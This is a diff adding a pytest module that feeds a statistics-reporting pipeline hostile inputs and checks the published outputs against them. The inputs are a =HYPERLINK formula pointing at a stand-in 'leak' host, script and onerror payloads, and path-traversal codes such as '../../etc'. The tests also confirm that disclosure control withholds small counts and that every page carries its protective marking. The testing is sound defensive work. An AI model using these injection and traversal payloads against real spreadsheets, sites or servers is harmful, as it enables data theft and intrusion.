@@ -1,0 +1,256 @@
+"""Safe outputs, end to end: a run on hostile and sensitive data publishes no small number, runs
+no script and no spreadsheet formula, and carries its protective marking on every page.
+
+One module-wide build of the demo with:
+- an LA named like a spreadsheet formula with a script after it, and a note that is a script;
+- the indicator with the most small counts published to 3 decimals, so that every figure
+  disclosure control withholds has a distinctive text to look for;
+- a protective marking in dataset.yaml.
+It is built twice: as published (suppressed), and unsuppressed for one region and quarter, to
+show that the scan does find the figures where they are not withheld.
+"""
+
+from __future__ import annotations
+
+import csv
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pandas as pd
+import pytest
+import yaml
+
+from tests.browser import FLAGS, chromium_path, visit
+
+pytestmark = pytest.mark.xdist_group("safe-outputs")
+
+LA, REGION, LATEST = "ZL102", "ZR1", "2026-27-Q2"
+FORMULA_NAME = '=HYPERLINK("https://example.invalid/?leak","Brackenford")'
+HOSTILE_NAME = f"{FORMULA_NAME} <script>alert('name')</script>"
+SCRIPT_NOTE = "<script>alert(1)</script><img src=x onerror=\"alert('img')\"> see figures"
+DISTINCT = "cpp_2_years_pct"  # most of the demo's small counts are here
+MARKING = "OFFICIAL-SENSITIVE"
+TEXT_FILES = (".html", ".ipynb", ".csv", ".json", ".xml")
+
+
+def _tartan(*args) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "-m", "pipeline", *map(str, args)],
+        capture_output=True,
+        text=True,
+        timeout=1800,
+    )
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory, demo_data):
+    root = tmp_path_factory.mktemp("hostile")
+    data, contracts = root / "data", root / "contracts"
+    shutil.copytree(demo_data, data)
+    shutil.copytree(Path(__file__).resolve().parents[1] / "data_contracts", contracts)
+    meta = yaml.safe_load((data / "dataset.yaml").read_text(encoding="utf-8"))
+    meta["protective_marking"] = MARKING
+    (data / "dataset.yaml").write_text(yaml.safe_dump(meta), encoding="utf-8")
+    las_path = data / "reference" / "local_authorities.csv"
+    las = pd.read_csv(las_path, dtype=str, keep_default_na=False)
+    las.loc[las["la_code"].eq(LA), "la_name"] = HOSTILE_NAME
+    las.to_csv(las_path, index=False)
+    cat_path = contracts / "indicators.yaml"
+    cat = yaml.safe_load(cat_path.read_text(encoding="utf-8"))
+    for ind in cat["indicators"]:
+        if ind["id"] == DISTINCT:
+            ind["decimals"] = 3
+    cat_path.write_text(yaml.safe_dump(cat, sort_keys=False), encoding="utf-8")
+    for path in sorted((data / "returns").rglob("*.csv")):
+        rows = pd.read_csv(path, dtype=str, keep_default_na=False)
+        mine = rows["indicator_id"].eq(DISTINCT) & rows["status"].eq("")
+        num = pd.to_numeric(rows.loc[mine, "numerator"])
+        den = pd.to_numeric(rows.loc[mine, "denominator"])
+        rows.loc[mine, "value"] = [
+            f"{round(n / d * 100, 3):g}" for n, d in zip(num, den, strict=True)
+        ]
+        if path.name == f"{LA}_{LATEST}.csv":
+            rows.loc[0, "note"] = SCRIPT_NOTE
+        rows.to_csv(path, index=False)
+
+    published, unsuppressed = root / "published", root / "unsuppressed"
+    done = _tartan(
+        "report", "--data", data, "--contracts", contracts, "--out", published, "--no-progress"
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    done = _tartan(
+        "report", "--data", data, "--contracts", contracts, "--out", unsuppressed,
+        "--unsuppressed", "--region", REGION, "--period", LATEST, "--no-progress",
+    )  # fmt: skip
+    assert done.returncode == 0, done.stdout + done.stderr
+
+    from pipeline.orchestration.run import published as disclosed
+    from pipeline.orchestration.run import validate
+    from pipeline.orchestration.settings import Settings
+
+    s = Settings(data=data, out=published, contracts=contracts)
+    v, inputs = validate(s)
+    _, sdc = disclosed(s, v, inputs)
+    return {
+        "data": data,
+        "contracts": contracts,
+        "published": published,
+        "unsuppressed": unsuppressed,
+        "removed": sdc.removed,
+        "root": root,
+    }
+
+
+def _texts(folder: Path) -> dict[Path, str]:
+    return {
+        p: p.read_text(encoding="utf-8")
+        for p in sorted(folder.rglob("*"))
+        if p.is_file() and p.suffix in TEXT_FILES
+    }
+
+
+def _found(token: str, text: str) -> bool:
+    return re.search(rf"(?<![\d.]){re.escape(token)}(?![\d])", text) is not None
+
+
+def _figures_csvs(folder: Path) -> list[Path]:
+    return sorted(p for p in folder.rglob("*.csv"))
+
+
+def test_no_file_of_the_run_holds_a_figure_that_disclosure_control_withheld(hostile):
+    removed = hostile["removed"]
+    values = removed[removed["field"].eq("value") & removed["indicator_id"].eq(DISTINCT)]
+    assert len(values) >= 40, "the demo has small counts to withhold"
+    assert set(removed["reason"]) == {"primary", "secondary"}
+    # a published number (a figure, a mean, a change) may happen to equal a withheld figure:
+    # that text is rightly there
+    shown = set()
+    for path in _figures_csvs(hostile["published"]):
+        f = pd.read_csv(path, dtype=str, keep_default_na=False)
+        for column in f[f["indicator_id"].eq(DISTINCT)].items():
+            shown |= {cell.lstrip("-") for cell in column[1]}
+    # three decimals make a figure's text distinctive (1.5 or 2 would be found anywhere)
+    tokens = {f"{v:g}" for v in values["value"]} - shown
+    tokens = {t for t in tokens if re.fullmatch(r"\d+\.\d{3}", t)}
+    assert len(tokens) >= 30
+    texts = _texts(hostile["published"])
+    assert len(texts) > 150  # reports (html, ipynb, csv), validation pages, index, manifest
+    leaks = [(t, p.name) for p in texts for t in sorted(tokens) if _found(t, texts[p])]
+    assert leaks == []
+
+    # the scan finds them where they are not withheld: ZR1's latest quarter, unsuppressed
+    zr1 = values[values["period"].eq(LATEST) & values["la_code"].str.startswith("ZL1")]
+    open_texts = "\n".join(_texts(hostile["unsuppressed"]).values())
+    mine = {f"{v:g}" for v in zr1["value"]} & tokens
+    assert mine and all(_found(t, open_texts) for t in mine)
+
+
+def test_every_withheld_cell_is_blank_and_c_in_every_figures_csv(hostile):
+    removed = hostile["removed"]
+    cells = set(zip(removed["la_code"], removed["period"], removed["indicator_id"], strict=True))
+    checked = 0
+    for path in _figures_csvs(hostile["published"]):
+        f = pd.read_csv(path, dtype=str, keep_default_na=False)
+        for row in f[f["area_type"].eq("la")].itertuples():
+            if (row.area_code, row.period, row.indicator_id) in cells:
+                assert (row.numerator, row.value, row.status) == ("", "", "c"), path
+                checked += 1
+    assert checked > 50
+
+
+def test_every_page_states_the_rule_and_carries_the_marking(hostile):
+    pages = [p for p in hostile["published"].rglob("*.html")]
+    assert len(pages) > 60
+    for p in pages:
+        html = p.read_text(encoding="utf-8")
+        assert html.count(f'<p class="marking">{MARKING}</p>') == 2, p  # top and foot
+        assert "Disclosure control" in html and "counts from 1 to 5" in html, p
+        assert "Not for circulation" not in html, p
+    for p in hostile["unsuppressed"].rglob("*.html"):
+        html = p.read_text(encoding="utf-8")
+        assert "Not for circulation: unsuppressed" in html, p
+        assert "unsuppressed and not for circulation" in html, p  # its footer says so too
+
+
+def test_no_csv_cell_is_a_formula_and_the_formula_name_is_kept_as_text(hostile):
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    named = 0
+    for path in _figures_csvs(hostile["published"]):
+        with open(path, encoding="utf-8", newline="") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    if cell.startswith(starts):
+                        float(cell)  # only a (negative) number may start so
+                    named += cell == "'" + HOSTILE_NAME
+    assert named > 0
+
+
+def test_the_return_template_for_an_la_named_like_a_formula_holds_no_formula(hostile, tmp_path):
+    import openpyxl
+
+    out = tmp_path / "template.xlsx"
+    done = _tartan(
+        "template", "--la", LA, "--period", LATEST, "--data", hostile["data"],
+        "--contracts", hostile["contracts"], "--out", out,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    book = openpyxl.load_workbook(out)
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert book["Return"]["A1"].value.startswith("'" + FORMULA_NAME)
+
+
+@pytest.fixture(scope="module")
+def browser():
+    path = chromium_path()
+    if not path:
+        pytest.skip("no Chromium: make test installs Debian's chromium, or set TARTAN_CHROMIUM")
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        b = p.chromium.launch(executable_path=path, args=FLAGS)
+        yield b
+        b.close()
+
+
+def test_the_script_note_and_formula_name_render_as_text_in_the_browser(hostile, browser):
+    out = hostile["published"]
+    pages = [
+        out / LATEST / REGION / LA / "self-assessment.html",
+        out / LATEST / REGION / "regional-benchmark.html",
+        out / "index.html",
+        out / "validation" / "feedback" / f"{LA}.html",
+    ]
+    for path in pages:
+        v = visit(browser, path, javascript=True, page_csp=False)
+        v.page.wait_for_timeout(300)
+        text = v.page.inner_text("body")
+        assert v.dialogs == [], path
+        assert v.page.evaluate("document.scripts.length") == 0, path
+        assert v.page.evaluate("document.querySelectorAll('[onerror]').length") == 0, path
+        assert v.console_errors == [], path
+        assert HOSTILE_NAME in text, path  # shown as written
+        if path.name == "self-assessment.html":
+            assert SCRIPT_NOTE in text
+        v.page.context.close()
+
+
+def test_a_reference_code_that_would_name_a_path_is_refused_and_nothing_is_written(
+    demo_data, tmp_path
+):
+    data = tmp_path / "data"
+    shutil.copytree(demo_data, data)
+    las_path = data / "reference" / "local_authorities.csv"
+    las = pd.read_csv(las_path, dtype=str, keep_default_na=False)
+    las.loc[las["la_code"].eq("ZL101"), "la_code"] = "../../etc"
+    las.loc[las["region_code"].eq("ZR3"), "region_code"] = "ZR3/../../x"
+    las.to_csv(las_path, index=False)
+    out = tmp_path / "out"
+    done = _tartan("report", "--data", data, "--out", out, "--no-progress")
+    assert done.returncode == 2, done.stdout + done.stderr
+    assert "la_code '../../etc' is not a code; expected letters and digits only" in done.stderr
+    assert "region_code 'ZR3/../../x' is not a code" in done.stderr
+    assert not out.exists() and not (tmp_path / "etc").exists()
